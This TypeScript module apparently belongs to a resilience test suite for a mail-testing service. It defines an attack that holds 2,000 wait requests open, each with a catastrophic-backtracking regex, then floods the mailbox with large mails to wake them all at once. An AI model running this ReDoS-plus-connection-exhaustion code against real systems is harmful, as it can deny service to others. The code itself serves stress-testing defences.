import { setTimeout as delay } from 'node:timers/promises';
import { attackerAddress } from '../addresses.ts';
import type { Attack } from '../attack.ts';
import { createMailbox, message, sendMail } from '../attacked-mailbox.ts';
import { HeldSockets, requestText } from '../held-sockets.ts';
import { Tally } from '../tally.ts';

const waits = 2_000;
const mailBytes = 90_000;
const betweenMailsMs = 3_000;

/** Waits with a regular expression, all woken by one mail. */
export const waitsWokenAtOnce: Attack = {
  id: '3d',
  name: '2,000 waits with a regex and one mail',
  seconds: 15,
  prepare: async (target) => {
    const { url, smtpPort, key } = target;
    const { path, address: recipient } = await createMailbox(target);
    const body = JSON.stringify({ match: { text: { regex: '(a|aa)*(a|b)*(.a){20}c$' } }, timeout: 30 });
    const first = requestText({ method: 'POST', path: `${path}/wait`, key, body });
    const content = message({ body: `${'a'.repeat(70)}\r\n`.repeat(mailBytes / 72) });
    return async (over) => {
      const sockets = new HeldSockets();
      const replies = new Tally();
      await sockets.open({ port: Number(new URL(url).port), count: waits, localAddress: attackerAddress, first, over });
      while (!over.aborted) {
        replies.add(await sendMail({ smtpPort, recipient, content }));
        await delay(betweenMailsMs, undefined, { signal: over }).catch(() => {});
      }
      return `${sockets.alive} waits, answers: ${sockets.answers}; mails: ${replies}`;
    };
  },
};
